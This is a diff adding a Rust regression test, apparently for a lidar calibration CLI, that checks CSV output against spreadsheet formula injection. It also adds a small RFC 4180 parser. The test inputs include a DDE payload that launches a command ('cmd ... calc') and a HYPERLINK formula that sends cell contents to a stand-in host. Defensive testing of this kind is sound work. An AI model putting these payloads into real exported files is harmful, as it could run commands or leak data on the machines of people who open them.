@@ -154,3 +154,88 @@ fn error_messages_on_stderr_are_escaped_under_every_format() {
         assert!(err.contains(ESC_SHOWN), "{err}");
     }
 }
+
+/// RFC 4180 rows: quoted fields with doubled quotes, line breaks inside quotes.
+fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
+    let (mut quoted, mut chars) = (false, text.chars().peekable());
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut cell)),
+            (false, '\n') => {
+                row.push(std::mem::take(&mut cell));
+                rows.push(std::mem::take(&mut row));
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    rows
+}
+
+/// Issue 27, forgery: a CSV cell that a spreadsheet would evaluate (it
+/// begins with `=`, `+`, `-`, `@`, a tab, a CR or a LF) is written as OWASP
+/// says (a `'` prepended, quoted, quotes doubled), whatever column it is in;
+/// a plain decimal number, negative ones included, stays a bare number
+/// (pandas reads the column as floats).
+#[test]
+fn csv_cells_are_never_formulas_and_numbers_stay_numbers() {
+    let d = tempfile::tempdir().unwrap();
+    let rig = std::fs::read_to_string("calibrations/geode-alpha-vlp16.toml").unwrap();
+    let hostile = [
+        "=HYPERLINK(\"http://x/?\"&A1,\"ok\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tlidar",
+        "\rlidar",
+        "\nlidar",
+        "-0.3640",
+    ];
+    let mut args = Vec::new();
+    for (i, id) in hostile.iter().enumerate() {
+        let text = rig.replacen(
+            "id = \"geode-alpha-vlp16\"",
+            &format!("id = {}", serde_json::to_string(id).unwrap()),
+            1,
+        );
+        assert_ne!(text, rig);
+        args.push(write(d.path(), &format!("r{i}.toml"), &text));
+    }
+    let mut cli = vec!["survey", "--format", "csv"];
+    cli.extend(args.iter().map(|p| p.to_str().unwrap()));
+    let (code, out, err) = run_cli(&cli);
+    assert_eq!(code, 0, "{err}");
+    let rows = csv_rows(&out);
+    let header = &rows[0];
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let (id, h) = (col("id"), col("screw_translation_m"));
+    assert_eq!(rows.len(), hostile.len() + 1, "{out}");
+    for want in hostile {
+        let shown = if want == "-0.3640" {
+            want.to_string() // a number stays a number
+        } else {
+            // Written quoted: no spreadsheet splits the cell or reads past the quote.
+            let written = format!("\"'{}\"", want.replace('"', "\"\""));
+            assert!(out.contains(&written), "{written:?} in\n{out}");
+            format!("'{want}")
+        };
+        let r = rows
+            .iter()
+            .find(|r| r[id] == shown)
+            .unwrap_or_else(|| panic!("{shown:?} in\n{out}"));
+        // The negative screw translation of GEODE alpha (-0.2314 m): bare.
+        assert!(
+            r[h].starts_with('-') && r[h].parse::<f64>().is_ok(),
+            "{:?}",
+            r[h]
+        );
+        assert!(out.contains(&format!(",{},", r[h])), "{out}");
+    }
+}
